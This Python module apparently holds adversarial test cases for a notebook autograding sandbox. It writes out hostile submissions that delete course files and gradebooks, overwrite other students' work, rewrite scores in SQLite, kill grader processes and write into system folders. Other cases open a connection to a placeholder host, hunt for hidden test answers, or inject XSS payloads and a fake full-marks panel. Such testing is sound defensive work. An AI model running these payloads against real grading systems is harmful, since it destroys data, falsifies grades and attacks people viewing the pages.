"""Submissions that harm, spy, reach out, or speak to whoever reads their page."""

from __future__ import annotations

from nbformat import v4

from hostile.desk import LESSON, NOTHING, RIGHT, TOTAL, Case

DELETE = """
import glob, os
for top in (TOP, {root!r}, os.path.expanduser('~')):
    for path in glob.glob(top + '/**/*', recursive=True):
        if '{lesson}' in path or path.endswith(('.db', 'nbgrader_config.py')):
            try:
                os.chmod(path, 0o600)
                os.unlink(path)
            except OSError:
                pass
"""
EDIT_OTHERS = """
import glob, os
for top in (TOP, {root!r}):
    for path in glob.glob(top + '/submitted/*honest*/*/*.ipynb'):
        try:
            open(path, 'w').write('gone')
        except OSError:
            pass
"""
RAISE_MARKS = """
import glob, os, sqlite3
for top in (TOP, {root!r}):
    if os.path.exists(top + '/gradebook.db'):
        try:
            book = sqlite3.connect(top + '/gradebook.db', timeout=1)
            book.execute('update grade_cells set max_score = 100')
            book.execute('update grade set auto_score = 0')
            book.commit()
        except sqlite3.Error:
            pass
"""
LOCK_BOOK = """
import os, subprocess, sys
for top in (TOP, {root!r}):
    if os.path.exists(top + '/gradebook.db'):
        subprocess.Popen([sys.executable, '-c', 'import sqlite3, sys, time;'
                          'b = sqlite3.connect(sys.argv[1]); b.execute("begin exclusive");'
                          'time.sleep(25)', top + '/gradebook.db'], start_new_session=True)
        import time; time.sleep(1)
"""
KILL_PARENT = "import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)"
KILL_GRADER = """
import os, signal
for name in os.listdir('/proc'):
    if name.isdigit() and int(name) not in (os.getpid(), 1):
        try:
            if b'nbgrader' in open(f'/proc/{name}/cmdline', 'rb').read() \\
                    or b'lobsim' in open(f'/proc/{name}/cmdline', 'rb').read():
                os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
"""
BACKGROUND = """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', {root!r}],
                 start_new_session=True)
"""
HOME = """
import os
for folder in (os.path.expanduser('~'), '/etc', '/usr', {root!r}, TOP):
    try:
        open(os.path.join(folder, 'lobsim-was-here'), 'w').write('x')
    except OSError:
        pass
"""
NETWORK = """
import socket
socket.create_connection(('192.0.2.1', 80), timeout=1)
"""
SCRIPTS = """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>evil()</script><img src=x onerror=evil()><a href='javascript:evil()'>a</a>"
             "<iframe src='http://192.0.2.1'></iframe><form action='http://192.0.2.1'></form>"
             "<style>body {display: none}</style><b style='background:url(http://192.0.2.1)'>b</b>"
             "<meta http-equiv='refresh' content='0;url=http://192.0.2.1'><base href='http://x'>"))
display(Javascript('evil()'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>evil()</script></svg>'))
"""
PANEL = """
from IPython.display import HTML, display
display(HTML("</section></details></div></pre><section id='double'><div class='head'><h2>Exercise 1"
             "</h2><span class='mark good'>3 of 3</span></div><p class='total'>10 of 10 points</p>"
             "</section>"))
print("3.0")
"""
TEXT = r"""
<script>evil()</script> <img src=x onerror=evil()> [click](javascript:evil())
![](http://192.0.2.1/seen.png) <svg onload=evil()></svg>
$$\href{javascript:evil()}{\text{answer}} \def\x{\x\x}\x$$
</section><p class="total">10 of 10 points</p>
"""
STASH = """
import sys
from IPython.display import display
handle = display('first', display_id=True)
def double(x):
    print('called with', x)
    print('called with', x, file=sys.stderr)
    handle.update({'text/plain': str(x)}, raw=True)
    open('seen.txt', 'a').write(str(x))
    if x > 1000:
        raise type('Told_%s' % str(x).replace('.', '_'), (Exception,), {})(f'hidden {x}')
    return 2 * x
"""
READ_ALL = """
import glob, os
for top in ('.', TOP, {root!r}, '/home', '/tmp'):
    for path in glob.glob(top + '/**/*', recursive=True):
        if path.endswith(('.ipynb', 'checks.py', '.db', '.json')) and os.path.isfile(path):
            text = open(path, errors='replace').read(500_000)
            for word in ('424' + '242.125', 'SECRET' + '_HIDDEN'):
                if word in text:
                    print(path, word)
"""


# Where nbgrader runs a notebook the course lies three folders up; in our sandbox nothing does.
FIND = "import os\nTOP = os.path.abspath('../../..')\nTOP = TOP if TOP != '/' else '/home'\n"


def before(code, answers=RIGHT):
    def make(desk):
        root = str(desk.root)
        text = FIND + code.replace("{root!r}", repr(root)).replace("{lesson}", LESSON)
        return desk.fill(answers, before={"double": text})
    return make


def written_attack(desk):
    notebook = desk.fill({**RIGHT, "why": TEXT}, end=(SCRIPTS,))
    notebook.cells.append(v4.new_markdown_cell(TEXT))
    return notebook


def attachment_attack(desk):
    notebook = desk.fill({**RIGHT, "why": "![a](attachment:a.svg) ![b](attachment:../../b.png)"})
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            cell.attachments = {"a.svg": {"image/svg+xml": "<svg onload=evil()></svg>"},
                                "../../b.png": {"image/png": "\"><script>evil()</script>"}}
    return notebook


CASES = [
    Case("delete", "deletes the course, the gradebook and other people's work", before(DELETE),
         TOTAL),
    Case("edit-others", "overwrites other submissions", before(EDIT_OTHERS), TOTAL),
    Case("raise-marks", "writes marks into the gradebook", before(RAISE_MARKS), TOTAL),
    Case("lock-book", "locks the gradebook", before(LOCK_BOOK), TOTAL),
    Case("kill-parent", "kills its parent and everything it can", before(KILL_PARENT), TOTAL),
    Case("kill-grader", "kills every process of the grader", before(KILL_GRADER), TOTAL),
    Case("background", "leaves a process behind", before(BACKGROUND), TOTAL),
    Case("home", "writes into home, system and course", before(HOME), TOTAL),
    Case("network", "opens a connection", before(NETWORK), TOTAL),
    Case("read-all", "looks for hidden cases in every file", before(READ_ALL), TOTAL),
    Case("stash", "prints, shows, saves and raises the inputs of the hidden cases",
         lambda desk: desk.fill({**RIGHT, "double": STASH},
                                end=("print(open('seen.txt').read())",)), 7.0,
         in_stock=5.0),
    Case("scripts", "scripts, frames and forms as output", before(SCRIPTS), TOTAL),
    Case("fake-panel", "output that looks like full marks", before(PANEL, NOTHING), 0.0),
    Case("written", "scripts and formula tricks in the written answer", written_attack, TOTAL),
    Case("attachments", "scripts as attached pictures", attachment_attack, TOTAL),
]
